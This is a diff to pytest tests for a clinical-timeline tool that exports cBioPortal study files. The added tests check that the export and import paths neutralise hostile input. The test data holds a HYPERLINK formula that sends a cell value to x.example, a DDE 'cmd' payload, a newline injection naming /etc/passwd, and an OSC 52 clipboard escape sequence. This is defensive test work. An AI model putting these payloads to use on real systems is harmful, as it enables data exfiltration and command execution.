@@ -271,8 +271,8 @@ def test_the_command_writes_the_good_patients_and_exits_1_with_a_count(tmp_path,
     assert "data_timeline_labs.txt:3: START_DATE: 'NA' is not a whole number of days." in err
     assert err.strip().endswith("3 case files written to " + str(tmp_path / "cases") +
                                 "; 1 problem, 1 patient left out")
-    assert sorted(p.name for p in (tmp_path / "cases").iterdir()) == ["lung-002.yaml", "lung-003.yaml",
-                                                                     "lung-004.yaml"]
+    assert sorted(p.name for p in (tmp_path / "cases").iterdir()) == [".timelines-written.json", "lung-002.yaml",
+                                                                     "lung-003.yaml", "lung-004.yaml"]
     assert main(["validate", str(tmp_path / "cases")]) == 0
 
 
@@ -543,3 +543,60 @@ def test_patient_attributes_and_case_texts_with_quotes_and_line_breaks_come_back
     write_study([original], tmp_path)
     back = case_timeline(read_study(tmp_path).cases["lung-002"], "lung-002.yaml")
     assert back.case.patient == original.case.patient and back.case.notes == original.case.notes
+
+
+def test_formulas_go_out_quoted_in_the_tsvs_and_come_back_as_written(tmp_path):
+    """OWASP CSV injection: every text cell of the study that a spreadsheet would run gets a leading quote (days
+    and other numbers stay numbers); the reader takes exactly that quote off again."""
+    import yaml
+    from conftest import make_case, make_event
+
+    texts = {"label": "=HYPERLINK(\"http://x.example/?\"&A1)", "quote": "+cmd|' /C calc'!A0", "note": "@SUM(1)",
+             "dose": "-5 mg", "regimen": "'=already quoted"}
+    document = make_case(make_event(kind="chemotherapy", drug=None, attributes={"FLAG_TEXT": "-x"}, **texts),
+                         title="=1+1 case")
+    document["diagnoses"][0]["date"] = "2021-09-01"
+    (tmp_path / "example.yaml").write_text(yaml.safe_dump(document, sort_keys=False), encoding="utf-8")
+    write_study([load_case(tmp_path / "example.yaml")], tmp_path / "study")
+    rows = (tmp_path / "study" / "data_timeline_treatment.txt").read_text().splitlines()
+    header, row = rows[0].split(TAB), dict(zip(rows[0].split(TAB), rows[1].split(TAB)))
+    assert header[:4] == ["PATIENT_ID", "START_DATE", "STOP_DATE", "EVENT_TYPE"]
+    assert {c: row[c] for c in ("LABEL", "QUOTE", "NOTE", "DOSE", "REGIMEN", "FLAG_TEXT", "START_DATE")} == {
+        "LABEL": "'=HYPERLINK(\"http://x.example/?\"&A1)", "QUOTE": "'+cmd|' /C calc'!A0", "NOTE": "'@SUM(1)",
+        "DOSE": "'-5 mg", "REGIMEN": "''=already quoted", "FLAG_TEXT": "'-x", "START_DATE": "0"}
+    assert "CASE_TITLE" in (tmp_path / "study" / "data_clinical_patient.txt").read_text()
+    assert "\t'=1+1 case\t" in (tmp_path / "study" / "data_clinical_patient.txt").read_text()
+    document = read_study(tmp_path / "study").cases["example"]
+    event = next(e for e in document["events"] if e["kind"] == "chemotherapy")
+    assert {k: event[k] for k in texts} == texts
+    assert event["attributes"]["FLAG_TEXT"] == "-x"
+    assert document["title"] == "=1+1 case"
+
+
+def test_a_title_with_a_line_break_cannot_add_a_line_to_a_meta_file():
+    from components.exports import cbioportal_zip
+    import io
+    import zipfile
+    from dataclasses import replace
+
+    timeline = load_case(CASE_FILES[0])
+    timeline = replace(timeline, case=timeline.case.model_copy(update={"title": "T\ndata_filename: /etc/passwd"}))
+    with zipfile.ZipFile(io.BytesIO(cbioportal_zip(timeline))) as archive:
+        meta = archive.read(next(n for n in archive.namelist() if n.endswith("meta_study.txt"))).decode()
+    assert "name: T data_filename: /etc/passwd\n" in meta and "\ndata_filename" not in meta
+
+
+def test_the_importer_prints_no_nul_and_no_clipboard_sequence(tmp_path, capsys):
+    """Regression: a NUL in a patient id and an OSC 52 sequence (writes the terminal's clipboard) in a cell were
+    printed raw."""
+    text = (STUDY / "data_timeline_treatment.txt").read_text(encoding="utf-8")
+    text = text.replace("Platinum doublet", "Platinum\x1b]52;c;cHduZWQ=\x07 doublet").replace("LUNG-002\t",
+                                                                                          "LUNG\x00-002\t", 1)
+    folder = copy_study(tmp_path, data_timeline_treatment=text)
+    assert main(["import-cbioportal", str(folder), "--out", str(tmp_path / "cases")]) == 1
+    err = capsys.readouterr().err
+    assert "\x00" not in err and "\x1b" not in err and "\x07" not in err
+    assert err.startswith("data_timeline_treatment.txt:5: PATIENT_ID: 'LUNG\\0-002' has a character other than "
+                          "letters, digits, '.', '_' and '-'.")
+    assert re.search(r"lung-001\.yaml:\d+:\d+: The text holds the control character U\+001B \(ESC, which starts "
+                     r"terminal commands\), written as an escape \(\\e\) in double quotes\.", err)
